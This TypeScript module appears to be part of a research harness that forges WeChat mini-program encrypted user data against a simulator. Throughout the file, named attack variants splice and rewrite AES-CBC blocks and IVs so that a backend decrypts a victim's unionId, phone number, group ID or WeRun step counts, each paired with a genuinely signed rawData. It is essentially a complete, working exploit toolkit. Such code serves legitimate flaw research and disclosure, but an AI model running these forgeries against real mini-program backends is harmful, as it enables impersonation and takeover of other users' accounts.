import { sign } from "../../../lib/simulator/user-data.ts";
import {
  blockInside,
  blocks,
  fillerBehind,
  findJump,
  type JumpPlan,
  type Message,
  message,
  opensAs,
} from "./messages.ts";

type Data = Record<string, unknown>;

export const APP_ID = "wx0123456789abcdef";
export const OPENID = "oAttacker0123456789012345678";
export const OWN_UNIONID = "oAttackersOwnUnionid00000000";
export const VICTIM = "ocMvos6NjeKLIBqg5Mr9QjxrP1FA";
const VICTIMS_NUMBER = "+8613800138000";
const VICTIMS_GROUP = "tGBfqg0123456789abcdef_-ABCD";
const AVATAR_URL = `https://thirdwx.qlogo.cn/mmopen/vi_32/${"Q3auHgzwzM4".repeat(7)}/132`;
const WATERMARK = { timestamp: Math.floor(Date.now() / 1000), appid: APP_ID };

/** One forged message, with a genuine signed text beside it. */
export interface Forged {
  sealed: Buffer;
  rawData: string;
  signature: string;
}

/** One attack. */
export interface Variant {
  name: string;
  /** Prepares what one session_key allows; each call of the result forges with a newly sealed message. */
  prepare(key: Buffer, sessionKey: string): () => Forged;
  /** Whether believed data hold what the attacker wanted. */
  isForged(data: Data): boolean;
}

/** The texts that WeChat seals, with members in WeChat's order. */
export const profileOf = (nickName: string) => ({
  nickName,
  gender: 0,
  language: "zh_CN",
  city: "",
  province: "",
  country: "",
  avatarUrl: AVATAR_URL,
});
export function userInfo(nickName: string, unionId?: string): string {
  const profile = profileOf(nickName);
  return JSON.stringify({ openId: OPENID, ...profile, ...(unionId && { unionId }), watermark: WATERMARK });
}
const userProfile = (nickName: string) => JSON.stringify({ ...profileOf(nickName), watermark: WATERMARK });
const NUMBER = "10012345678";
const PHONE_DATA = JSON.stringify({
  phoneNumber: NUMBER,
  purePhoneNumber: NUMBER,
  countryCode: "86",
  watermark: WATERMARK,
});
const DAYS = Array.from({ length: 31 }, (_, day) => ({
  timestamp: 1_700_000_000 + day * 86_400,
  step: 1234,
}));
const WERUN_DATA = JSON.stringify({ stepInfoList: DAYS, watermark: WATERMARK });

const BEGINNING = `{"openId":"${OPENID}","nickName":"`;
export const FILLER = fillerBehind(BEGINNING);
/** The block that begins behind the filler. */
export const AT = (BEGINNING + FILLER).length / 16;
export const STEM = '","unionId":"';
const SPLIT = 16 - STEM.length;
const UNIONID_NAME = FILLER + VICTIM.slice(SPLIT);
/** What opens from the iv, with a string that stays open. */
const OPEN_STRING = '{"x":"aaaaaaaaaa';

function signed(nickName: string, sessionKey: string) {
  const rawData = JSON.stringify(profileOf(nickName));
  return { rawData, signature: sign(rawData, sessionKey) };
}

/** The beginning of a new message up to its filler, a block of garbage, and the victim's unionid out of another's name. */
function unionIdBehind(fresh: Message, from: Message): Buffer {
  return Buffer.concat([blocks(fresh, -1, AT), opensAs(from, AT - 1, STEM + VICTIM.slice(0, SPLIT))]);
}

const isVictims = ({ unionId }: Data) => unionId === VICTIM;

/** An attack in which only the own message is new each time. */
function attack(
  name: string,
  text: string,
  isForged: Variant["isForged"],
  forge: (fresh: Message) => Buffer[],
  nickName = "Band",
): Variant {
  return {
    name,
    isForged,
    prepare: (key, sessionKey) => {
      const beside = signed(nickName, sessionKey);
      return () => ({ sealed: Buffer.concat(forge(message(key, text))), ...beside });
    },
  };
}

/** An attack with a jump whose garbage was found harmless offline. */
function attackWithJump(
  name: string,
  plan: JumpPlan,
  isForged: Variant["isForged"],
  forge: (fresh: Message, from: Message) => Buffer[],
  nickName = "Band",
): Variant {
  return {
    name,
    isForged,
    prepare: (key, sessionKey) => {
      const beside = signed(nickName, sessionKey);
      const { from, to } = findJump(key, plan);
      const end = blocks(to, plan.first);
      return () => {
        const begun = forge(message(key, plan.fromText), from);
        return { sealed: Buffer.concat([...begun, end]), ...beside };
      };
    },
  };
}

export const HOSTING = userInfo(UNIONID_NAME);
const HOSTING_OWN = userInfo(UNIONID_NAME, OWN_UNIONID);
const LAST_OF_AVATAR = blockInside(HOSTING, AVATAR_URL);

/** From inside the picture's URL of the message with the victim's unionid to inside another value. */
function unionIdWithJump(
  name: string,
  plan: Omit<JumpPlan, "fromText" | "last">,
  nickName?: string,
): Variant {
  return attackWithJump(
    name,
    { fromText: HOSTING, last: LAST_OF_AVATAR, ...plan },
    isVictims,
    (fresh, from) => [unionIdBehind(fresh, from), blocks(from, AT, LAST_OF_AVATAR + 1)],
    nickName,
  );
}

/** A nickname behind a filler, as the first block behind 16 bytes that the iv chooses. */
function fromTheIv(name: string, wanted: string, rest: string, isForged: Variant["isForged"]): Variant {
  const beginning = rest.startsWith('"') ? `${BEGINNING}\\` : BEGINNING;
  const filler = fillerBehind(beginning);
  const at = (beginning.length + filler.length) / 16;
  const text = userInfo(filler + rest);
  return attack(name, text, isForged, (fresh) => [opensAs(fresh, at - 1, wanted), blocks(fresh, at)]);
}

const GROUP_TEXT = userInfo(FILLER + VICTIMS_GROUP.slice(4));
const PHONE_TEXT = userInfo(FILLER + VICTIMS_NUMBER);
/** JSON escapes a quote in a nickname: the backslash ends the block in front, and is left out. */
const QUOTED_TEXT = userInfo(`${fillerBehind(`${BEGINNING}\\`)}"${VICTIMS_NUMBER}`);
const QUOTED_AT = QUOTED_TEXT.indexOf(`"${VICTIMS_NUMBER}`) / 16;
/** The own unionid begins at a block here. */
export const OWN_FILLER = fillerBehind(userInfo("", OWN_UNIONID).split(OWN_UNIONID)[0] as string);
export const OWN_TEXT = userInfo(OWN_FILLER, OWN_UNIONID);
export const OWN_AT = OWN_TEXT.indexOf(OWN_UNIONID) / 16;
const ANONYMOUS_TEXT = userProfile("-".repeat(40));
const PURE_AT = PHONE_DATA.lastIndexOf(NUMBER) / 16;
/** The watermark from its name's last four letters on begins at a block here. */
const BEFORE_WATERMARK_TEXT = userInfo(fillerBehind(userInfo("").split('mark":{')[0] as string));
const WATERMARK_AT = BEFORE_WATERMARK_TEXT.indexOf('mark":{') / 16;
const IV_TEXT = userInfo(FILLER + VICTIM.slice(4));
const LAST_OF_IV_TEXT = blockInside(IV_TEXT, AVATAR_URL);
/** A block of WeRun data shortly behind the beginning of a day. */
const WERUN_AT = [4, 5, 6, 7, 8].find((at) => dayBefore(at).length < 10) as number;
/** The last block before the picture's URL, inside the empty city. */
const IN_CITY = (GROUP_TEXT.indexOf('"city":"') + 8) / 16;

function dayBefore(at: number): string {
  const before = WERUN_DATA.slice(0, at * 16);
  return before.slice(before.lastIndexOf("{"));
}

/** Closes a text, and opens a member with a list of days. */
function listBefore(at: number): string {
  const day = dayBefore(at);
  return `","${"y".repeat(10 - day.length)}":[${day}`;
}

export const VARIANTS: Variant[] = [
  attack(
    "unionId: one jump inside the nickname",
    HOSTING,
    isVictims,
    (fresh) => [unionIdBehind(fresh, fresh), blocks(fresh, AT)],
    UNIONID_NAME,
  ),
  attackWithJump(
    "unionId: as above, and a jump over the own unionId",
    {
      fromText: HOSTING_OWN,
      last: LAST_OF_AVATAR,
      toText: HOSTING_OWN,
      first: blockInside(HOSTING_OWN, OWN_UNIONID),
    },
    isVictims,
    (fresh, from) => [unionIdBehind(fresh, from), blocks(from, AT, LAST_OF_AVATAR + 1)],
    UNIONID_NAME,
  ),
  unionIdWithJump(
    "unionId: two jumps, all of rawData behind them once more",
    { toText: HOSTING, first: 1 },
    UNIONID_NAME,
  ),
  unionIdWithJump("unionId: two jumps, three messages with two nicknames", {
    toText: userInfo("Band"),
    first: 1,
  }),
  unionIdWithJump(
    "unionId: two jumps, ends in phone data",
    { toText: PHONE_DATA, first: PURE_AT - 1 },
    UNIONID_NAME,
  ),
  fromTheIv(
    "unionId: chosen by the iv, without openId",
    `{"unionId":"${VICTIM.slice(0, 4)}`,
    VICTIM.slice(4),
    isVictims,
  ),
  attack(
    "unionId: an unknown member by the iv holds the garbage",
    HOSTING,
    isVictims,
    (fresh) => [
      opensAs(fresh, 1, OPEN_STRING),
      opensAs(fresh, AT - 1, STEM + VICTIM.slice(0, SPLIT)),
      blocks(fresh, AT),
    ],
    UNIONID_NAME,
  ),
  attack(
    "unionId: garbage inside the own one (to read a block)",
    OWN_TEXT,
    ({ unionId }) => unionId !== undefined && unionId !== OWN_UNIONID,
    (fresh) => [
      blocks(fresh, -1, OWN_AT),
      opensAs(fresh, OWN_AT, "oAttackersOwnUni"),
      blocks(fresh, OWN_AT + 1),
    ],
    OWN_FILLER,
  ),
  attack(
    "nickname: garbage in getUserProfile data (to read a block)",
    ANONYMOUS_TEXT,
    ({ nickName }) => nickName !== undefined && nickName !== "-".repeat(40),
    (fresh) => [blocks(fresh, -1, 1), opensAs(fresh, 1, "-".repeat(16)), blocks(fresh, 2)],
    "-".repeat(40),
  ),
  fromTheIv(
    "openGId: chosen by the iv",
    `{"openGId":"${VICTIMS_GROUP.slice(0, 4)}`,
    VICTIMS_GROUP.slice(4),
    ({ openGId }) => openGId === VICTIMS_GROUP,
  ),
  attackWithJump(
    "openGId: chosen by the iv, and a jump over avatarUrl",
    {
      fromText: GROUP_TEXT,
      last: IN_CITY - 1,
      toText: userInfo("Band"),
      first: blockInside(userInfo("Band"), AVATAR_URL),
    },
    ({ openGId }) => openGId === VICTIMS_GROUP,
    (_fresh, from) => [
      opensAs(from, AT - 1, `{"openGId":"${VICTIMS_GROUP.slice(0, 4)}`),
      blocks(from, AT, IN_CITY),
    ],
  ),
  attack(
    "openGId: garbage inside it",
    BEFORE_WATERMARK_TEXT,
    ({ openGId }) => openGId !== undefined,
    (fresh) => [
      opensAs(fresh, 1, '{"openGId":"tGBf'),
      opensAs(fresh, WATERMARK_AT - 1, '_ABCDEFG","water'),
      blocks(fresh, WATERMARK_AT),
    ],
  ),
  fromTheIv(
    "phone number: chosen by the iv",
    '{"phoneNumber":"',
    VICTIMS_NUMBER,
    ({ phoneNumber }) => phoneNumber === VICTIMS_NUMBER,
  ),
  attackWithJump(
    "phone number: chosen by the iv, and a jump into own phone data",
    { fromText: PHONE_TEXT, last: blockInside(PHONE_TEXT, AVATAR_URL), toText: PHONE_DATA, first: 0 },
    ({ phoneNumber }) => phoneNumber === VICTIMS_NUMBER,
    (_fresh, from) => [
      opensAs(from, AT - 1, '{"phoneNumber":"'),
      blocks(from, AT, blockInside(PHONE_TEXT, AVATAR_URL) + 1),
    ],
  ),
  attack(
    "phone number: an unknown member by the iv holds the garbage",
    QUOTED_TEXT,
    ({ phoneNumber }) => phoneNumber === VICTIMS_NUMBER,
    (fresh) => [
      opensAs(fresh, 1, OPEN_STRING),
      opensAs(fresh, QUOTED_AT - 1, '","phoneNumber":'),
      blocks(fresh, QUOTED_AT),
    ],
  ),
  attack(
    "phone number: garbage inside the one of phone data",
    PHONE_DATA,
    ({ purePhoneNumber }) => purePhoneNumber !== undefined && purePhoneNumber !== NUMBER,
    (fresh) => [
      blocks(fresh, -1, PURE_AT),
      opensAs(fresh, PURE_AT, '13800138000","co'),
      blocks(fresh, PURE_AT + 1),
    ],
  ),
  fromTheIv(
    "steps: chosen by the iv",
    '{"stepInfoList":',
    '"99999',
    ({ stepInfoList }) => stepInfoList === "99999",
  ),
  attack(
    "steps: garbage between two days of WeRun data",
    WERUN_DATA,
    ({ stepInfoList }) => Array.isArray(stepInfoList),
    (fresh) => [blocks(fresh, -1, 5), opensAs(fresh, 2, '"step":99999},{"'), blocks(fresh, 3)],
  ),
  {
    name: "unionId: chosen by the iv, ends in WeRun data behind garbage",
    isForged: isVictims,
    prepare: (key, sessionKey) => {
      const beside = signed("Band", sessionKey);
      const from = message(key, IV_TEXT);
      return () => {
        const fresh = message(key, WERUN_DATA);
        const sealed = Buffer.concat([
          opensAs(from, AT - 1, `{"unionId":"${VICTIM.slice(0, 4)}`),
          blocks(from, AT, LAST_OF_IV_TEXT + 1),
          opensAs(fresh, WERUN_AT - 1, listBefore(WERUN_AT)),
          blocks(fresh, WERUN_AT),
        ]);
        return { sealed, ...beside };
      };
    },
  },
];
